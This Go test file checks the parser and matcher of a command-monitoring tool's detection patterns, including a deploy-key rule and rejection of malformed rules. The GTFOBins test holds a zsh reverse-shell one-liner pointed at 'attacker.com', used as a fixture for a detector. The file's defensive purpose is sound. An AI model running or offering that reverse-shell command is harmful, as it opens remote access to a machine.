package pattern

import (
	"strings"
	"testing"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
)

const sample = `[[pattern]]
id = "acme.deploy-key"
title = "deploy key used outside CI"
level = "warning"
exec = { class = "ssh", argv = 're:-i\s+\S*deploy' }
unless = { chain = ["make"] }
fire = ["ssh -i ~/.ssh/deploy host"]
quiet = ["ssh host"]
`

func TestParse(t *testing.T) {
	got, not := Parse([]byte(sample), "a.toml")
	if len(got) != 1 || len(not) != 0 {
		t.Fatalf("Parse = %v, %v; want one pattern", got, not)
	}
	in := Inputs(command.ParseText("ssh -i ~/.ssh/deploy host", command.Env{}).Simples[1], nil)
	if !got[0].Match(in[0]) {
		t.Error("the pattern does not match its own sample")
	}
	in[0].Chain = []string{"bash", "make"}
	if got[0].Match(in[0]) {
		t.Error("the pattern matches below make; want unless to hold")
	}
}

func TestParseRefuses(t *testing.T) {
	for name, change := range map[string][2]string{
		"critical without consent": {`level = "warning"`, `level = "critical"`},
		"failing fire":             {`fire = ["ssh -i ~/.ssh/deploy host"]`, `fire = ["ls"]`},
		"failing quiet":            {`quiet = ["ssh host"]`, `quiet = ["ssh -i deploy h"]`},
		"no quiet":                 {`quiet = ["ssh host"]`, ``},
		"bad expression":           {`re:-i\s+\S*deploy`, `re:(`},
		"unknown field":            {`class = "ssh"`, `klass = "ssh"`},
		"unknown key":              {`title =`, `titel =`},
		"two kinds":                {`fire =`, "open = { path = \"/x\" }\nfire ="},
	} {
		got, not := Parse([]byte(strings.Replace(sample, change[0], change[1], 1)), "a.toml")
		if len(got) != 0 || len(not) != 1 || not[0].Reason == "" {
			t.Errorf("%s: Parse = %v, %v; want it refused with a reason", name, got, not)
		}
	}
}

func TestGTFOBins(t *testing.T) {
	got, _ := GTFOBins([]byte("---\nfunctions:\n  reverse-shell:\n    - code: |\n        zsh -c 'zmodload zsh/net/tcp;ztcp attacker.com 12345'\n---\n"), "_gtfobins/zsh.md")
	if len(got) != 1 {
		t.Fatalf("GTFOBins = %v; want one pattern", got)
	}
	in := Inputs(command.ParseText("zsh -c 'zmodload zsh/net/tcp; ztcp h 9'", command.Env{}).Simples[1], nil)
	if !got[0].Match(in[0]) {
		t.Error("the pattern does not match its example with another host")
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(sample))
	f.Fuzz(func(t *testing.T, data []byte) {
		got, _ := Parse(data, "x")
		for _, p := range got {
			if p.ID == "" || p.Test() != nil {
				t.Errorf("loaded %q, which fails its samples", p.ID)
			}
		}
		GTFOBins(data, "x")
	})
}
